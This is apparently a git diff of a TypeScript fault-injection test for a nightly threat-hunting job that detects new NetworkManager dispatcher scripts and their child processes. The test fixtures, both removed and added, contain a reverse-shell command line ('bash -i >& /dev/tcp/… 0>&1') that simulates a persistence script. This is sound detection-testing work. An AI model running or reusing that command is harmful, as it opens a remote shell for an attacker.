@@ -15,7 +15,8 @@ import { startElasticsearchStandIn, verificationException, type ElasticsearchSta
 import { startEmbeddedDynamoDb, type EmbeddedDynamoDb } from '../functions/local/embedded-dynamodb';
 import { runNightlyJob } from '../functions/nightly-job';
 import { internalError, rejected, startDynamoFaultProxy, throttled, type DynamoFaultProxy, type FaultRule } from './support/dynamodb-fault-proxy';
-import { CHILD_COLUMNS, WRITE_COLUMNS, childRow, responseFor, writeRow } from './support/rows';
+import { answerFromRecordedGroups } from '../functions/local/recorded-groups';
+import { CHILD_COLUMNS, WRITE_COLUMNS, childGroup, childRow, responseFor, writeGroup, writeRow } from './support/rows';
 
 /* Every case: night 1 learns; night 2 brings one new script write and one new child process while a fault
    is injected; then Lambda's retry a minute later (same request id) and a run the next night. Across all runs,
@@ -29,10 +30,12 @@ const SECRET_VALUES = [API_KEY, PASSWORD, CLOUD_ID, 'super-secret-key-value'];
 const SECRET_ID = 'nm-dispatcher-hunt/elasticsearch';
 const T0 = Date.parse('2026-11-24T02:00:00.000Z');
 
-const STOCK_WRITE = writeRow({ 'file.path': '/etc/NetworkManager/dispatcher.d/01-ifupdown', 'process.executable': '/usr/bin/cp' });
-const STOCK_CHILD = childRow({ 'process.parent.executable': '/etc/NetworkManager/dispatcher.d/01-ifupdown', 'process.executable': '/usr/bin/logger', 'process.command_line': 'logger up' });
-const NEW_WRITE = writeRow({ 'file.path': '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', 'process.executable': '/usr/bin/bash' });
-const NEW_CHILD = childRow({ 'process.parent.executable': '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', 'process.executable': '/usr/bin/nohup', 'process.command_line': "nohup bash -i >& /dev/tcp/203.0.113.66/4444 0>&1" });
+const STOCK_WRITE = writeGroup('/etc/NetworkManager/dispatcher.d/01-ifupdown', '/usr/bin/cp');
+const STOCK_CHILD = childGroup({ parent_script: '/etc/NetworkManager/dispatcher.d/01-ifupdown', 'process.executable': '/usr/bin/logger', masked_command_line: 'logger up' });
+const NEW_WRITE = writeGroup('/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', '/usr/bin/bash');
+const NEW_CHILD = childGroup({ parent_script: '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', 'process.executable': '/usr/bin/nohup', masked_command_line: 'nohup bash -i >& /dev/tcp/203.0.113.66/4444 0>&1' });
+/** The rare-group query (phase 1), as opposed to the samples for those groups. */
+const isRareGroupQuery = (request: RecordedRequest) => !String(request.body.query ?? '').includes('VALUES(');
 const NEW_PATHS = ['/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh|/usr/bin/bash', "/usr/bin/nohup|nohup bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"];
 
 type EsFault = (request: RecordedRequest, hunt: 'child' | 'write', attempt: number) => StandInReply | undefined;
@@ -64,7 +67,7 @@ const RUN_ORDER: RunLabel[] = ['night 2', 'retry', 'night 3'];
 const LEASE_MS = 1_200_000;
 
 const esError = (status: number, type: string, reason: string): StandInReply => ({ status, body: { error: { root_cause: [{ type, reason }], type, reason }, status } });
-const NEW_WRITE_FINGERPRINT = fingerprintOf(huntById('dispatcher-script-write')!, { 'file.path': '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', 'process.executable': '/usr/bin/bash' });
+const NEW_WRITE_FINGERPRINT = fingerprintOf(huntById('dispatcher-script-write')!, { 'file.path': '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', 'process.executable': '/usr/bin/bash', agent: 'agent-1' });
 const once = <T>(fault: T) => {
   let used = false;
   return () => (used ? undefined : ((used = true), fault));
@@ -82,7 +85,7 @@ const CASES: FaultCase[] = [
   { name: 'malformed JSON', es: (_r, hunt) => (hunt === 'write' ? { status: 200, body: '{"columns": [', raw: true } : undefined), says: /not valid JSON/, outcome: 'failed' },
   { name: 'missing columns', es: (_r, hunt) => (hunt === 'write' ? { status: 200, body: { columns: [{ name: 'file.path', type: 'keyword' }], values: [['/x']] } } : undefined), says: /lacks columns/, outcome: 'failed' },
   { name: 'wrong types', es: (_r, hunt) => (hunt === 'child' ? { status: 200, body: responseFor(CHILD_COLUMNS, [childRow({ event_count: 'seven' })]) } : undefined), says: /not a count/, outcome: 'failed' },
-  { name: 'is_partial: true', es: (_r, hunt) => (hunt === 'write' ? { status: 200, body: responseFor(WRITE_COLUMNS, [STOCK_WRITE, NEW_WRITE], { is_partial: true }) } : undefined), says: /partial results/, outcome: 'failed' },
+  { name: 'is_partial: true', es: (r, hunt) => (hunt === 'write' && isRareGroupQuery(r) ? { status: 200, body: responseFor(WRITE_COLUMNS, [writeRow(STOCK_WRITE), writeRow(NEW_WRITE)], { is_partial: true }) } : undefined), says: /partial results/, outcome: 'failed' },
   { name: 'DynamoDB throttling', dynamo: ((count = 0) => (op: string) => (op === 'BatchGetItem' && count++ < 2 ? throttled() : undefined))(), says: /run finished/, outcome: 'succeeded' },
   { name: 'DynamoDB unprocessed keys', dynamo: (op) => (op === 'BatchGetItem' ? { kind: 'partial-batch', keep: 1 } : undefined), says: /run finished/, outcome: 'succeeded' },
   {
@@ -176,8 +179,10 @@ before(async () => {
       if (request.method === 'DELETE') return { status: 200, body: { acknowledged: true } };
       // From night 2 on the stock rows have a later event, so that the run records their observation.
       const later = night === 2 ? { last_seen: '2026-11-25T01:00:00.000Z' } : {};
-      const rows = hunt === 'child' ? [{ ...STOCK_CHILD, ...later }, ...(night === 2 ? [NEW_CHILD] : [])] : [{ ...STOCK_WRITE, ...later }, ...(night === 2 ? [NEW_WRITE] : [])];
-      return { status: 200, body: responseFor(hunt === 'child' ? CHILD_COLUMNS : WRITE_COLUMNS, rows) };
+      return answerFromRecordedGroups(request, {
+        'dispatcher-script-child': [{ ...STOCK_CHILD, ...later }, ...(night === 2 ? [NEW_CHILD] : [])],
+        'dispatcher-script-write': [{ ...STOCK_WRITE, ...later }, ...(night === 2 ? [NEW_WRITE] : [])],
+      });
     },
   });
 });
@@ -196,7 +201,7 @@ function alertedIdentities(upTo: RunLabel = 'night 3'): string[] {
     const message = JSON.parse(JSON.parse(input.Message!).default) as { newFindings: { items: { identity: Record<string, string | null> }[] } };
     return message.newFindings.items.map((item) => {
       const id = item.identity;
-      return id['file.path'] ? `${id['file.path']}|${id['process.executable']}` : `${id['process.executable']}|${id['process.command_line']}`;
+      return id['file.path'] ? `${id['file.path']}|${id['process.executable']}` : `${id['process.executable']}|${id.masked_command_line}`;
     });
   });
 }
@@ -292,7 +297,7 @@ describe('fault injection', () => {
       const statuses = new Map<string, string>();
       for await (const entry of store.list()) {
         const id = entry.identity;
-        statuses.set(id['file.path'] ? `${id['file.path']}|${id['process.executable']}` : `${id['process.executable']}|${id['process.command_line']}`, entry.status);
+        statuses.set(id['file.path'] ? `${id['file.path']}|${id['process.executable']}` : `${id['process.executable']}|${id.masked_command_line}`, entry.status);
       }
       const lost = NEW_PATHS.filter((p) => !alerted.includes(p) && !['pending', 'approved'].includes(statuses.get(p) ?? '')).length;
       const repeats = NEW_PATHS.map((p) => Math.max(0, alerted.filter((a) => a === p).length - 1));
